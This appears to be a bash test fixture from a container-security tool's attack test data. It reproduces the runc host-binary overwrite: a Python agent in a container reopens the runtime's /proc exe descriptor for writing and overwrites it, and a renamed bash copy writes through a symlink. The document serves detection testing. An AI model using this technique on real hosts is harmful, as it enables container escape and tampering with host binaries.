#!/usr/bin/env bash
# The same as a container does it: through a descriptor of the file, named by its path in /proc, once the runtime has ended.
# And by a copy that is called dpkg, through a link.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts
own_folder /usr/local/sbin
own_folder /usr/local/bin
cp "$(readlink -f /bin/bash)" "$work/bash"
logged /usr/local/sbin/runc <"$work/bash"
chmod 755 /usr/local/sbin/runc
echo '#!/bin/false' | logged /usr/local/bin/containerd-shim-runc-v2

cat >"$work/agent.py" <<'PYTHON'
import os, subprocess, time
runtime = subprocess.Popen(["/usr/local/sbin/runc", "-c", "read -r line"], stdin=subprocess.PIPE)
file = os.open(f"/proc/{runtime.pid}/exe", os.O_PATH)
runtime.communicate(b"go\n")
writable = None
until = time.monotonic() + 30
while writable is None:
    try:
        writable = os.open(f"/proc/self/fd/{file}", os.O_WRONLY | os.O_TRUNC)
    except OSError:  # The kernel may need a moment until it no longer counts the file as running.
        assert time.monotonic() < until
        time.sleep(0.01)
os.write(writable, b"#!/bin/true\n")
PYTHON
in_container 8a3d6c0b4f759e9cabd8c7b6f5e4d3c2b1a0f9e8d7c6b5a4938271605f4e3d2c python3 -I "$work/agent.py"
grep -q true /usr/local/sbin/runc || fail "written elsewhere"
ln -s /usr/local/bin/containerd-shim-runc-v2 "$work/notes"
cp "$(readlink -f /bin/bash)" "$work/dpkg"
"$work/dpkg" -c 'echo "#!/bin/true" >>notes'
